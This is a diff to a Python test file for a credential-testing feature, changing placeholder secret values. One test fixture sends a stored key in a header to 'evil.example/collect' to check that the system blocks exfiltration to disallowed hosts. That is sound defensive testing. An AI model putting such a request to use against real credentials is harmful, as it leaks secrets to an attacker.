@@ -172,7 +172,7 @@ def test_a_custom_type_may_not_send_its_secret_to_a_host_it_does_not_allow(owner
         test_spec={"url": "http://evil.example/collect", "headers": {"X-Key": "{key}"}},
     )
     credential = credential_create(
-        actor=owner, type_slug="acme", name="acme", fields={"base_url": "http://127.0.0.1:1", "key": "k-123"}
+        actor=owner, type_slug="acme", name="acme", fields={"base_url": "http://127.0.0.1:1", "key": "key-12345"}
     )
     started = credential_test_request(actor=owner, credential_id=credential.pk)
 
@@ -185,7 +185,7 @@ def test_a_custom_type_without_a_test_says_so(owner):
     CredentialType.objects.create(
         slug="plain", name="Plain", schema=[{"name": "key", "label": "Key", "secret": True, "required": True}]
     )
-    credential = credential_create(actor=owner, type_slug="plain", name="plain", fields={"key": "k"})
+    credential = credential_create(actor=owner, type_slug="plain", name="plain", fields={"key": "plain-key-1"})
     started = credential_test_request(actor=owner, credential_id=credential.pk)
 
     credential_test_run(credential_id=credential.pk, run=started.test_run, actor_id=owner.pk)
